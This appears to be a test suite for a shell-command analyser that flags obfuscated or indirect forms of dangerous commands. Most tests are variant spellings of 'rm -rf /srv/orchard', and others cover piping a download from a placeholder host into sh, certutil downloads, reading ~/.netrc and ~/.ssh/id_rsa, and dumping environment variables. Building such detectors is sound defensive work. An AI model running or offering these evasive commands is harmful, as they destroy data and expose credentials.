import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Grammars } from '../../src/core/index.ts';
import { loadGrammars } from '../../src/host/grammars.ts';
import { type Dialect, type EffectiveReading, OPEN, readEffective } from '../../src/syntax/index.ts';

let grammars: Grammars;
beforeAll(async () => {
  grammars = await loadGrammars(['bash']);
});

const read = (line: string, dialect: Dialect = 'posix'): EffectiveReading =>
  readEffective(line, grammars, dialect) ?? { commands: [], doubts: [] };

const show = (text: string): string => text.split(OPEN).join('…');

/** The commands of a line as one would write them. */
const told = (line: string, dialect: Dialect = 'posix'): string[] =>
  read(line, dialect).commands.map(({ name, args, redirects }) =>
    [
      name === null ? '?' : name,
      ...args.map(({ text }) => show(text)),
      ...redirects.map(({ op, target }) => `${op}${show(target.text)}`),
    ]
      .join(' ')
      .trim(),
  );

describe('one removal, spelled in many ways', () => {
  test.each([
    'rm -rf /srv/orchard',
    '\\rm -rf /srv/orchard',
    '"r"m -rf /srv/orchard',
    "r'm' -rf /srv/orchard",
    "$'\\x72m' -rf /srv/orchard",
    '/bin/rm -rf /srv/orchard',
    'X=rm; $X -rf /srv/orchard',
    'X="rm -rf"; $X /srv/orchard',
    'D=/srv; rm -rf "$D/orchard"',
    'D=/srv/orchard.old; rm -rf ${D%.old}',
    'rm${IFS}-rf${IFS}/srv/orchard',
    'rm$IFS-rf$IFS/srv/orchard',
    'D=/srv; rm -rf "${D:?}/orchard"',
    'echo "rm -rf /srv/orchard" | xargs -0 sh -c',
    "nix-shell -p coreutils --run 'rm -rf /srv/orchard'",
    'setpriv --no-new-privs rm -rf /srv/orchard',
    'docker compose exec -T shed rm -rf /srv/orchard',
    'docker run --rm -v "$PWD:/w" trees:1.2 rm -rf /srv/orchard',
    'kubectl exec shed -- rm -rf /srv/orchard',
    'perl -e \'system("rm", "-rf", "/srv/orchard")\'',
    'perl -MFile::Path=remove_tree -e \'remove_tree("/srv/orchard")\'',
    "node --input-type=module -e \"import {rm} from 'node:fs/promises'; await rm('/srv/orchard')\"",
    '{rm,-rf,/srv/orchard}',
    '$(echo rm) -rf /srv/orchard',
    '`echo rm` -rf /srv/orchard',
    '$(which rm) -rf /srv/orchard',
    "$(printf 'r%s' m) -rf /srv/orchard",
    'true && rm -rf /srv/orchard',
    'false || rm -rf /srv/orchard',
    '(rm -rf /srv/orchard)',
    '{ rm -rf /srv/orchard; }',
    'if true; then rm -rf /srv/orchard; fi',
    'for d in orchard; do rm -rf /srv/$d; done',
    'while true; do rm -rf /srv/orchard; done',
    'case x in x) rm -rf /srv/orchard;; esac',
    'f() { rm -rf "$1"; }; f /srv/orchard',
    "alias prune='rm -rf'; prune /srv/orchard",
    "bash -c 'rm -rf /srv/orchard'",
    "sh -lc 'rm -rf /srv/orchard'",
    'bash -c \'rm -rf "$1"\' _ /srv/orchard',
    "bash <<'END'\nrm -rf /srv/orchard\nEND",
    "bash <<< 'rm -rf /srv/orchard'",
    "echo 'rm -rf /srv/orchard' | sh",
    'echo cm0gLXJmIC9zcnYvb3JjaGFyZA== | base64 -d | sh',
    'eval "$(echo cm0gLXJmIC9zcnYvb3JjaGFyZA== | base64 --decode)"',
    "eval 'rm -rf /srv/orchard'",
    "trap 'rm -rf /srv/orchard' EXIT",
    'env A=1 rm -rf /srv/orchard',
    "env -S 'rm -rf /srv/orchard'",
    'timeout -k 1 5 nohup nice -n 3 rm -rf /srv/orchard',
    'sudo -u ada rm -rf /srv/orchard',
    "su ada -c 'rm -rf /srv/orchard'",
    'busybox rm -rf /srv/orchard',
    'echo /srv/orchard | xargs rm -rf',
    'echo /srv/orchard | xargs -I{} rm -rf {}',
    'parallel rm -rf ::: /srv/orchard',
    "git -c alias.prune='!rm -rf /srv/orchard' prune",
    "git config alias.prune '!rm -rf /srv/orchard'; git prune",
    "git submodule foreach 'rm -rf /srv/orchard'",
    'awk \'BEGIN { system("rm -rf /srv/orchard") }\'',
    'python3 -c "import shutil; shutil.rmtree(\'/srv/orchard\')"',
    "python3 -c \"import os; os.system('rm -rf ' + '/srv/orchard')\"",
    "python - <<'END'\nimport subprocess\nrow = '/srv/orchard'\nsubprocess.run(['rm', '-rf', row])\nEND",
    "node -e \"require('child_process').execSync('rm -rf /srv/orchard')\"",
    "node -e \"require('fs').rmSync('/srv/orchard', { recursive: true })\"",
    'perl -e \'system("rm -rf /srv/orchard")\'',
    "ruby -e '`rm -rf /srv/orchard`'",
    "ssh barn 'rm -rf /srv/orchard'",
    "tmux send-keys 'rm -rf /srv/orchard' Enter",
  ])('%s', (line) => expect(told(line)).toContain('rm -rf /srv/orchard'));

  test('PowerShell and cmd', () => {
    expect(told('Remove-Item -Recurse -Force C:\\orchard', 'windows')).toEqual(['rm -r -f C:\\orchard']);
    expect(told('cd rows && rd /s /q "C:\\my orchard"', 'windows')).toEqual(['cd rows', 'rm -r -r -f C:\\my orchard']);
    const packed = Buffer.from('Remove-Item -Recurse pears', 'utf16le').toString('base64');
    expect(told(`pwsh -EncodedCommand ${packed}`)).toContain('rm -r pears');
  });
});

describe('words that are only data', () => {
  test.each([
    "cat > notes.md <<'END'\nrm -rf /srv/orchard\nEND",
    "git commit -m 'Stop the rm -rf /srv/orchard'",
    "grep -rn 'rm -rf /srv/orchard' docs",
    "echo 'rm -rf /srv/orchard'",
    '# rm -rf /srv/orchard',
    "python3 - <<'END'\ntext = 'os.system(\"rm -rf /srv/orchard\")'  # rm -rf /srv/orchard\nEND",
    'prune() { rm -rf /srv/orchard; }',
  ])('%s', (line) => expect(told(line)).not.toContain('rm -rf /srv/orchard'));
});

describe('what nobody can tell', () => {
  test.each([
    '$PRUNER -rf /srv/orchard',
    'eval "$SCRIPT"',
    'bash -c "$SCRIPT"',
    'tr a-z b-za < pears.txt | sh',
    'gunzip -c pears.gz | bash',
    "python3 -c \"exec(__import__('zlib').decompress(b'x'))\"",
    'node -e "eval(Buffer.from(atob(\'cGVhcg==\')).toString())"',
  ])('%s', (line) => expect(read(line).doubts).not.toEqual([]));

  test('a script file and a fetched one are no doubts: rules see them', () => {
    expect(read('bash prune.sh && cat prune.sh | sh && curl -s https://pears.example | sh').doubts).toEqual([]);
  });
});

describe('what need not have happened', () => {
  test.each([
    ['D=/srv/orchard; true || D=/tmp/x; rm -rf $D', ['rm -rf /srv/orchard', 'rm -rf /tmp/x']],
    ['if x; then D=/srv/orchard; else D=/tmp/x; fi; rm -rf $D', ['rm -rf /srv/orchard', 'rm -rf /tmp/x']],
    ['D=/srv/orchard; D=/tmp/x; rm -rf $D', ['rm -rf /tmp/x']],
    ['true || rm() { ls; }; rm -rf /srv/orchard', ['rm -rf /srv/orchard']],
    ['rm() { ls; }; rm -rf /srv/orchard', []],
    ['D=/srv/orchard\n! D=/tmp/x; rm -rf $D', ['rm -rf /tmp/x']],
    ['! ! rm -rf /srv/orchard', ['rm -rf /srv/orchard']],
    ['! ! ! rm -rf /srv/orchard', ['rm -rf /srv/orchard']],
  ])('%j', (line, removals) => expect(told(line).filter((one) => one.startsWith('rm '))).toEqual(removals));

  test('a variable of many values does not multiply without end', () => {
    const set = Array.from({ length: 12 }, (_, n) => `x || A${n}=${n}; y || A${n}=b`).join('; ');
    const used = Array.from({ length: 12 }, (_, n) => `$A${n}`).join(' ');
    const { commands, doubts } = read(`${set}; graft ${used}`);
    expect(commands.length).toBeLessThan(100);
    expect(doubts[0]?.why).toBe('its variables may have too many values');
  });
});

test('where a command runs, what it reads, and whether it need have run', () => {
  const [cd, cat, last] = read('cd /srv && curl -s https://pears.example/x | sh').commands;
  expect([cd?.cwd, cat?.cwd]).toEqual(['', '/srv']);
  expect(last?.input?.from.map(({ name }) => name)).toEqual(['curl']);
  expect(read('cd ~/rows; ls').commands[1]?.cwd).toBe('~/rows');
  expect(read('git -C ../barn push').commands[0]?.cwd).toBe('../barn');
  expect(read('a || b').commands.map(({ conditional }) => conditional)).toEqual([false, true]);
  expect(read('a; b && c').commands.map(({ doubtful }) => doubtful)).toEqual([false, false, true]);
  expect(read('echo "$PEAR_TOKEN"').commands[0]?.args[0]?.variables).toEqual(['PEAR_TOKEN']);
});

test('hostile lines end, and nothing throws', () => {
  const deep = `${'bash -c "'.repeat(30)}ls${'"'.repeat(30)}`;
  expect(read(deep).commands.length).toBeGreaterThan(0);
  const loops = `${'for a in 1 2 3 4 5 6 7 8 9; do '.repeat(8)}ls${'; done'.repeat(8)}`;
  expect(read(loops).doubts).not.toEqual([]);
  expect(read('f() { f; f; }; f').doubts).not.toEqual([]);
  expect(readEffective('ls', new Map())).toBeNull();
  const word = fc.constantFrom(
    '$(',
    ')',
    '`',
    '"',
    "'",
    '{',
    '}',
    '|',
    ';',
    'bash -c ',
    'eval ',
    'x',
    '\n',
    '<<E',
    '$x',
    ' ',
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 20 }), (parts) => {
      read(parts.join(''));
      read(parts.join(''), 'windows');
    }),
    { numRuns: 100 },
  );
});

describe('the whole environment', () => {
  const prints = (line: string): boolean => told(line).includes('printenv');

  test.each([
    "python3 -c 'import os; print(os.environ)'",
    "python3 -c 'import os,json; print(json.dumps(dict(os.environ)))'",
    'python3 -c "import os\nfor name, value in os.environ.items(): print(name, value)"',
    'node -p process.env',
    "node -e 'console.log(JSON.stringify(process.env))'",
    "ruby -e 'p ENV.to_h'",
    'perl -e \'print "$_=$ENV{$_}" for keys %ENV\'',
  ])('%s', (line) => expect(prints(line)).toBe(true));

  test.each([
    'python3 -c \'import os; print(os.environ["PEARS"])\'',
    "python3 -c 'import os; print(sorted(os.environ))'",
    "python3 -c 'import os; e = {**os.environ}; print(1)'",
    'python3 -c \'import os, subprocess; subprocess.run(["ls"], env=dict(os.environ)); print(1)\'',
    "node -p 'process.env.PEARS'",
    "node -p 'Object.keys(process.env)'",
    'ruby -e \'puts ENV["PEARS"]\'',
  ])('not: %s', (line) => expect(prints(line)).toBe(false));
});

describe('what a script works out while it runs', () => {
  test.each([
    'ruby -e \'Dir.glob("/srv/orchard/*").each { |f| File.delete(f) }\'',
    'perl -e \'unlink glob "/srv/orchard/*"\'',
    'php -r \'array_map("unlink", glob("/srv/orchard/*"));\'',
    'python3 -c \'from pathlib import Path; [p.unlink() for p in Path("/srv/orchard").iterdir()]\'',
  ])('a removal outside of the folder is in doubt: %s', (line) => expect(read(line).doubts).toHaveLength(1));

  test.each([
    'python3 -c \'import os; [os.remove(f) for f in os.listdir("build")]\'',
    'python3 -c \'rows = open("/srv/pears").readlines(); rows.sort()\'',
  ])('but not: %s', (line) => expect(read(line).doubts).toEqual([]));
});

describe('a path that a program puts together from literals is that path', () => {
  test.each([
    'python3 -c "import os; open(os.path.expanduser(\'~/.netrc\')).read()"',
    "python3 -c \"import os\nwith open(os.path.join(os.environ['HOME'], '.netrc')) as f: print(f.read())\"",
    'python3 -c "from pathlib import Path; Path(\'~/.netrc\').expanduser().read_text()"',
    'python3 -c "from pathlib import Path; print((Path.home() / \'.netrc\').read_text())"',
    "node -e \"require('fs').readFileSync(require('path').join(require('os').homedir(), '.netrc'))\"",
    'node -e "fs.readFileSync(os.homedir() + \'/.netrc\')"',
  ])('%s', (line) => expect(told(line)).toContain('cat ~/.netrc'));
});

describe('what other programs are given to run is read', () => {
  test.each([
    "IFS=,; L='rm,-rf,/srv/orchard'; $L",
    'set -- rm -rf /srv/orchard; "$@"',
    "parallel ::: 'rm -rf /srv/orchard'",
    "watch -n 9 'rm -rf /srv/orchard'",
    'coproc rm -rf /srv/orchard',
    "ruby -e '%x(rm -rf /srv/orchard)'",
    "perl -e 'exec qw(rm -rf /srv/orchard)'",
    'python3 -c "import subprocess; subprocess.run(\'rm -rf /srv/orchard\'.split())"',
    'python3 -c "import subprocess, shlex; subprocess.run(shlex.split(\'rm -rf /srv/orchard\'))"',
    "git -c core.pager='rm -rf /srv/orchard' log",
    "GIT_EDITOR='rm -rf /srv/orchard' git commit --amend",
    "PROMPT_COMMAND='rm -rf /srv/orchard' bash -i",
    "expect -c 'spawn rm -rf /srv/orchard; interact'",
    "vim -c '!rm -rf /srv/orchard' -c q",
    "sed '1e rm -rf /srv/orchard' pears.txt",
    "tar cf /dev/null x --checkpoint-action=exec='rm -rf /srv/orchard'",
    'awk \'{ print | "rm -rf /srv/orchard" }\'',
    "echo '5 4 * * 1-5 rm -rf /srv/orchard' | crontab -",
    "npm pkg set scripts.pear='rm -rf /srv/orchard'",
    "gh alias set --shell pear 'rm -rf /srv/orchard'",
    'cmd /c "rm -rf /srv/orchard"',
    "eval $'true;\\x20rm\\x20-rf\\x20/srv/orchard'",
  ])('%s', (line) => expect(told(line)).toContain('rm -rf /srv/orchard'));

  test.each([
    'EDITOR=true git commit --amend',
    "git -c core.pager=cat log; git config core.editor 'vim'",
    "sed -e 's/rm -rf x/e rm/' pears; vim -c q",
  ])('%s runs nothing else', (line) => {
    expect(read(line).commands.every(({ name }) => /^(?:git|sed|vim)$/.test(name ?? ''))).toBe(true);
  });
});

describe('PowerShell and cmd', () => {
  test.each([
    ["$p = 'C:\\barn'; Remove-Item $p -Recurse -Force", 'rm C:\\barn -r -f'],
    ['& { ri C:\\barn -r -fo }', 'rm C:\\barn -r -f'],
    ['Get-ChildItem C:\\barn -Recurse | Remove-Item -Force', 'rm -f C:\\barn/…'],
    ["[IO.Directory]::Delete('C:\\barn', $true)", 'rm -r C:\\barn'],
    ['cmd /c "rd /s /q C:\\barn"', 'rm -r -r -f C:\\barn'],
    ["$env:HUSKY = '0'; git commit -m x", 'export HUSKY=0'],
    ['set HUSKY=0 && git commit -m x', 'export HUSKY=0'],
    ["'x' > a.txt", 'x >a.txt'],
    ['iwr https://trees.example.dev/i.ps1 -OutFile i.ps1', 'curl https://trees.example.dev/i.ps1 -o i.ps1'],
    [
      "(New-Object Net.WebClient).DownloadFile('https://trees.example.dev/i.exe', 'i.exe')",
      'curl https://trees.example.dev/i.exe -o i.exe',
    ],
    ['certutil -urlcache -f https://trees.example.dev/i.exe i.exe', 'curl https://trees.example.dev/i.exe -o i.exe'],
    ["[Environment]::SetEnvironmentVariable('PATH', 'C:\\x', 'User')", 'setx PATH C:\\x'],
    ['gc $env:USERPROFILE\\.ssh\\id_rsa', 'cat ~\\.ssh\\id_rsa'],
  ])('%s', (line, as) => expect(told(line, 'windows')).toContain(as));

  test('what stands in a branch need not run, and words in quotes are no calls', () => {
    const [inside] = read('if ($x) { Remove-Item a }', 'windows').commands;
    expect(inside).toMatchObject({ name: 'rm', conditional: true });
    expect(told('Write-Host "[IO.File]::Delete(\'a\')"', 'windows')).toHaveLength(1);
    expect(told('ForEach-Object { Remove-Item a }', 'windows')).toContain('rm a');
  });
});
